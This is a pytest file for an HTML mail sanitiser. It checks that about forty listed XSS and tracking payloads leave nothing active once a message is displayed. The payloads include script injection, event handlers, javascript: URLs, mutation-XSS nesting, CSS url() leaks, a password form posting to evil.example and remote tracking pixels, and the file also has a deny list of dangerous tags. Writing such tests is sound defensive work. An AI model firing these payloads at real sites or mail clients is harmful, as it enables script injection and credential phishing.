"""HTML of a mail is harmless when it is shown."""

from __future__ import annotations

import pytest

from mailroom.reading.markup import is_tangled, safe_html, to_text
from mailroom.reading.reader import read
from tests.mailroom.reading.letters import html

TRICKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/p.gif 1x">',
    '<img src="data:image/png;base64,AAAA">',
    '<div style="background:url(https://evil.example/p.gif)">x</div>',
    "<div style=\"background-image:url('https://evil.example')\">x</div>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="color:expression(alert(1))">x</div>',
    '<div style="color:u\\72l(https://evil.example)">x</div>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<body background="https://evil.example/p.gif" onload="alert(1)">',
    '<table background="https://evil.example/p.gif"><tr><td>x',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<video poster="https://evil.example/p.gif"><source src="https://evil.example/v"></video>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p id=__proto__ name=body class=desk-button>x</p>",
    "<<script>alert(1)//<</script>",
    "<img src='cid:x' onerror='alert(1)'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<a href='cid:x'>x</a>",
    "<a href='//evil.example'>x</a><a href='/logout'>y</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
]
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "vbscript:",
    "data:",
    "<form",
    "<input",
    "<iframe",
    "<svg",
    "<link",
    "<meta",
    "<base",
    "<style",
    "<object",
    "<embed",
    "<video",
    "url(",
    "position",
    "expression",
    "srcset",
    'src="http',
    "background=",
    " id=",
    " name=",
    " class=",
    'href="//',
    'href="/',
    'href="cid',
)


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_leaves_nothing_that_acts(trick: str) -> None:
    shown = read(html(f"<p>Before</p>{trick}<p>After</p>")).html.lower()
    assert "before" in shown
    # In tags alone: as text between them, a trick is only words.
    tags = "".join(piece.partition(">")[0] + ">" for piece in shown.split("<")[1:])
    assert [word for word in FORBIDDEN if word.strip("<") in tags and word in f"<{tags}"] == []


def test_links_open_elsewhere_and_tell_nothing() -> None:
    shown = safe_html('<a href="https://klant.example/x" onclick="y()" target="_top">x</a>').html
    assert 'href="https://klant.example/x"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_inline_images_stay_and_remote_ones_are_told_of() -> None:
    found = safe_html('<img src="cid:a@b" alt="Logo"><img src="https://evil.example/p.gif" alt="Pixel">')
    assert 'src="cid:a@b"' in found.html
    assert "evil" not in found.html
    assert found.has_remote


def test_plain_layout_survives() -> None:
    shown = safe_html(
        '<table><tr><td style="color: red; padding: 4px" bgcolor="#eeeeee">x</td></tr></table>'
    ).html
    assert "color:red" in shown.replace(" ", "")
    assert "#eeeeee" in shown


def test_what_is_nested_too_deep_is_shown_as_text() -> None:
    deep = "<div>" * 3_000 + "Deep down." + "</div>" * 3_000
    assert is_tangled(deep)
    reading = read(html(deep))
    assert reading.text == "Deep down."
    assert reading.html == "<pre>Deep down.</pre>"
    assert reading.notes


def test_a_long_ordinary_table_is_not_tangled() -> None:
    assert not is_tangled("<table>" + "<tr><td><p>x<br></td></tr>" * 5_000 + "</table>")


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two", "One\nTwo"),
        ("<p>a &lt;b&gt; &amp; c</p>", "a <b> & c"),
        ("<!-- no --><p>x</p>", "x"),
        ("<head><title>no</title></head><body>x", "x"),
        ("x<style>no", "x"),
        ("<HEAD><STYLE>no</STYLE></HEAD><P>x", "x"),
        ("", ""),
        ("<>", "<>"),
        ("<?xml version='1.0' encoding='utf-8'?><p>x</p>", "x"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ('<blockquote type="cite">a<blockquote type="cite">b</blockquote></blockquote>', "> a\n> b"),
    ],
)
def test_markup_becomes_text(markup: str, text: str) -> None:
    assert [line.rstrip() for line in to_text(markup).split("\n")] == text.split("\n")
